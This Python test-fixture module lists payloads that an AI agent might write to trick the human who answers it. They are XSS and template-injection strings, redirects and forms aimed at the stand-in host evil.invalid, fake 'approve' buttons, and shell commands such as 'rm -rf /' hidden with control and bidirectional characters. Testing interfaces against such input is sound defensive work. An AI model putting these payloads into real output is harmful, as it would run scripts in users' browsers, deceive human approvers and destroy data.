"""Payloads: what an agent may write to trick whoever answers it: scripts, markup, and characters that hide.

Each ends in ``ran(N)`` where a browser that took it for more than text would call that. ``.invalid`` is a
domain that never exists (RFC 6761).
"""

from __future__ import annotations

from typing import Final

ELSEWHERE: Final = "https://evil.invalid"

MARKUP: Final = (
    "<script>ran(0)</script>",
    "<img src=x onerror=ran(1)>",
    '"><svg onload=ran(2)>',
    "'><iframe srcdoc='<script>parent.ran(3)</script>'>",
    "</textarea><script>ran(4)</script>",
    "</title></head><body onload=ran(5)>",
    "</script><script>ran(6)</script>",
    '<a href="javascript:ran(7)">Approve</a>',
    "<details open ontoggle=ran(8)><summary>more</summary></details>",
    "{{ 7 * 191 }}{% raw %}<script>ran(9)</script>{% endraw %}",
    "${ran(10)}`+ran(10)+`';ran(10);//",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(11)>",
    "<input autofocus onfocus=ran(12)>",
    '<div hx-get="/logout" hx-trigger="load" hx-on:htmx:load="ran(13)">x</div>',
    '<script type="module">import("/static/console.js").then(() => ran(14))</script>',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    f'<base href="{ELSEWHERE}/">',
    f'<form action="{ELSEWHERE}/"><button data-do="approve">Reject</button></form>',
    f"<style>@import '{ELSEWHERE}/x.css'; * {{ display: none }}</style>",
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    '<object data="data:text/html,<script>parent.ran(20)</script>"></object>',
    '" autofocus onfocus="ran(21)" data-do="approve" x="',
    "\\u003cscript\\u003eran(22)\\u003c/script\\u003e &lt;script&gt;ran(22)&lt;/script&gt;",
    "<!--><img src=x onerror=ran(23)>-->",
    f"[a safe link](javascript:ran(24)) and {ELSEWHERE}/?q=1",
    '<dialog open id="answer-dialog"><button data-do="confirm">ran(25)</button></dialog>',
)

#: Characters that nobody sees, or that move what stands around them. Each has to be spelled out.
HIDDEN: Final = {
    "rm \x1b[2K\x1b[1A\x1b[8mnothing to see": "1b",
    "rm -rf /\u202eeblmrah": "202e",
    "cu\u200brl http://a\u2060b": "200b",
    "ls\x00 -la \x07": "00",
    "git\u3164status \U000e0041\U000e0042": "3164",
    "echo ok\rrm -rf /": "",
}

PAYLOADS: Final = (*MARKUP, *HIDDEN)


def as_label(payload: str) -> str:
    """The same as an agent's or a conversation's name: printable ASCII without spaces, 128 at most."""
    return "".join(char for char in payload.replace(" ", "/") if "!" <= char <= "~")[:128]
